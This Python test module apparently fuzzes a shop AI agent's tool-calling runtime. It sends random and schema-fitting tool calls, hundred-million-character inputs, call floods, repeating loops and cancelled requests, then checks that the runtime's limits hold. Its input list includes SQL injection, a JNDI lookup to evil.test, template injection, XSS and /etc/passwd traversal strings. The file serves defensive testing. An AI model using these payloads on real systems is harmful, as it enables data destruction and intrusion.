"""Attacks by noise: garbage, sizes beyond all measure, floods, circles, and hanging up in the middle."""

import asyncio
from typing import Any

from bottega.kernel.errors import Refusal
from bottega.proof.chance import Chance
from bottega.proof.hostile.attack import attack
from bottega.proof.hostile.model import Planned, calls, says
from bottega.proof.hostile.stage import ASSISTANT, OFFICER, PUPPET, Stage

HUGE_CHARACTERS = 100_000_000
LARGE_CHARACTERS = 60_000
FLOOD = 120
DEEP = 400
STRINGS = (
    "",
    " ",
    "\x00",
    "\ud800",
    "\u202edrowssap",
    "'; DROP TABLE shop.orders; --",
    "${jndi:ldap://evil.test}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "ord_",
    "order_0",
    "null",
    "NaN",
    "1e309",
    "ﷺ" * 50,
)


@attack("I14", "I12", "I15")
async def garbage(stage: Stage) -> None:
    """Every tool, with names and values of the wrong kind, drawn by chance."""
    role = stage.chance.choice((ASSISTANT, PUPPET, OFFICER))
    tools = list(stage.runtime.parts.roles[role].tools)
    planned: list[Planned] = []
    for tool in stage.chance.sample(tools, min(12, len(tools))):
        fields: list[str] = list(tool.schema.get("properties", {}))
        arguments = {field: _any_value(stage.chance, 3) for field in fields if stage.chance.random() < 0.8}
        if stage.chance.random() < 0.3:
            arguments[stage.chance.choice(STRINGS) or "x"] = _any_value(stage.chance, 2)
        planned.append((tool.name, arguments))
    planned.append((stage.chance.choice(STRINGS) or "nothing", {}))
    conversation = stage.conversation(role)
    await conversation.say("Do something", calls(*planned), says(stage.chance.choice(STRINGS)))


@attack("I14", "I21", "I20")
async def plausible_calls(stage: Stage) -> None:
    """Every tool, with arguments that its schema allows, filled from what is known of the shop and its people."""
    role = stage.chance.choice((PUPPET, OFFICER))
    tools = list(stage.runtime.parts.roles[role].tools)
    known = (*stage.attacker.identifiers, *stage.stand.variant_ids, stage.stand.location_id, *stage.victim.identifiers)
    planned: list[Planned] = []
    for tool in stage.chance.sample(tools, 10):
        wanted: dict[str, Any] = tool.schema.get("properties", {})
        needed: list[str] = tool.schema.get("required", [])
        planned.append((tool.name, {name: _fitting(wanted[name], known, stage.chance, 4) for name in needed}))
    conversation = stage.conversation(role)
    await conversation.say(f"Do it: {' '.join(known)} 1 2 500 EUR late", calls(*planned))
    token = conversation.token
    if token is not None:
        await conversation.say("", token=token)


@attack("I14")
async def a_hundred_megabytes(stage: Stage) -> None:
    """An argument, a name and a reply of a hundred million characters, and a structure that is very deep."""
    conversation = stage.conversation()
    huge = "x" * HUGE_CHARACTERS
    kind = stage.chance.randrange(3)
    if kind == 0:
        await conversation.say("Search", calls(("search_products", {"query": huge})))
    elif kind == 1:
        await conversation.say("Talk", says(huge))
    else:
        await conversation.say("Search", calls((huge, {})))
    deep: Any = "x"
    for _ in range(DEEP // 2):
        deep = {"a": [deep]}
    large = "y" * LARGE_CHARACTERS
    other = stage.conversation()
    await other.say(
        "Search", calls(("search_products", {"query": large})), calls(("search_products", {"query": deep})), says(large)
    )
    if len(str(other.reply.get("text", ""))) > 10 * LARGE_CHARACTERS:
        stage.broken("I14", "a reply beyond all limits went out")


@attack("I14", "I16")
async def flood(stage: Stage) -> None:
    """More calls in one reply than a run may make, again in the next."""
    conversation = stage.conversation()
    search: list[Planned] = [("search_products", {"query": f"Thing {number}"}) for number in range(FLOOD)]
    await conversation.say("Search", calls(*search))
    made = await stage.value(
        "SELECT count(*) FROM runtime.steps s JOIN runtime.turns t ON t.run_id = s.run_id "
        "WHERE t.session_id = $1 AND s.phase = 'act'",
        conversation.session,
    )
    limit = stage.runtime.parts.roles[ASSISTANT].limits.tool_calls
    if made > limit:
        stage.broken("I16", f"{made} calls were made in one run that may make {limit}")


@attack("I14", "I15")
async def circles(stage: Stage) -> None:
    """One call again and again, and two that take turns, without end."""
    conversation = stage.conversation()
    one, other = calls(("get_cart", {})), calls(("list_orders", {}))
    await conversation.say("Look", *(one for _ in range(30)))
    await conversation.say("Look again", *((one, other)[turn % 2] for turn in range(30)))
    asked = await stage.value(
        "SELECT max(r.model_calls) FROM runtime.runs r JOIN runtime.turns t ON t.run_id = r.id WHERE t.session_id = $1",
        conversation.session,
    )
    if asked > stage.runtime.parts.roles[ASSISTANT].limits.model_calls:
        stage.broken("I16", f"a model was asked {asked} times in one run")


@attack("I19", "I15", "I14")
async def hanging_up(stage: Stage) -> None:
    """The process that waits for the answer is torn away in the middle of changes, and the message is sent again."""
    conversation = stage.conversation()
    variant = stage.stand.variant_ids[2]
    add = calls(("add_to_cart", {"variant_id": variant, "quantity": 1}))
    leave = calls(("remove_coupon", {}), ("apply_coupon", {"code": "PROOF10"}), ("get_cart", {}))
    task = asyncio.create_task(conversation.say(f"One {variant}, coupon PROOF10", add, leave, message_id="msg_torn"))
    await asyncio.sleep(stage.chance.uniform(0.0, 0.05))
    task.cancel()
    await asyncio.gather(task, return_exceptions=True)
    try:
        await conversation.say(f"One {variant}, coupon PROOF10", add, leave, message_id="msg_torn")
    except Refusal:
        return


def _any_value(chance: Chance, depth: int) -> Any:
    kind = chance.randrange(9 if depth else 6)
    match kind:
        case 0:
            return chance.choice(STRINGS)
        case 1:
            return chance.choice((0, -1, 1, 2**31, 2**63, -(2**63), 2**80))
        case 2:
            return chance.choice((0.1, -0.0, 1e308, 5e-324))
        case 3:
            return chance.choice((None, True, False))
        case 4:
            return chance.choice(STRINGS) * chance.randrange(1, 40)
        case 5:
            return f"{chance.choice(('order', 'variant', 'cart', 'gift'))}_{chance.randrange(10**4)}"
        case 6 | 7:
            return [_any_value(chance, depth - 1) for _ in range(chance.randrange(4))]
        case _:
            return {chance.choice(STRINGS): _any_value(chance, depth - 1) for _ in range(chance.randrange(4))}


def _fitting(schema: dict[str, Any], known: tuple[str, ...], chance: Chance, depth: int) -> Any:
    """A value of the schema, as far as that can be said in a few lines; identifiers are real ones, often misplaced."""
    options: list[Any] = schema.get("anyOf") or schema.get("oneOf") or []
    if options:
        return _fitting(chance.choice(options), known, chance, depth)
    if "const" in schema:
        return schema["const"]
    if "enum" in schema:
        return chance.choice(schema["enum"])
    match schema.get("type"):
        case "integer" | "number":
            return chance.choice((schema.get("minimum", 0), 1, 2, 500, schema.get("maximum", 10**6)))
        case "boolean":
            return chance.random() < 0.5
        case "array" if depth:
            return [_fitting(schema.get("items", {}), known, chance, depth - 1)]
        case "object" if depth:
            members: dict[str, Any] = schema.get("properties", {})
            needed: list[str] = schema.get("required", [])
            return {name: _fitting(members[name], known, chance, depth - 1) for name in needed if name in members}
        case "null":
            return None
        case _:
            return chance.choice((*known, "EUR", "late", "2027-01-01T00:00:00Z"))
